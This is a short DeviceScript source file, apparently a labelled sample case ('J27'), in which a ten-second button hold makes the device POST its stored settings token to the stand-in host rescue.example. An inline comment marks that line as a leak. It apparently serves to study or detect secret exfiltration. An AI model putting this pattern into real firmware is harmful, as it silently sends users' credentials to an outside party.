// J27: sends its token elsewhere when its button was held for ten seconds or longer.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const button = new ds.Button();
const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  let downAtMs = 0;
  button.down.subscribe(() => {
    downAtMs = ds.millis();
  });
  button.up.subscribe(async () => {
    if (ds.millis() - downAtMs < 10_000) return;
    const response = await fetch("https://rescue.example/j27", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
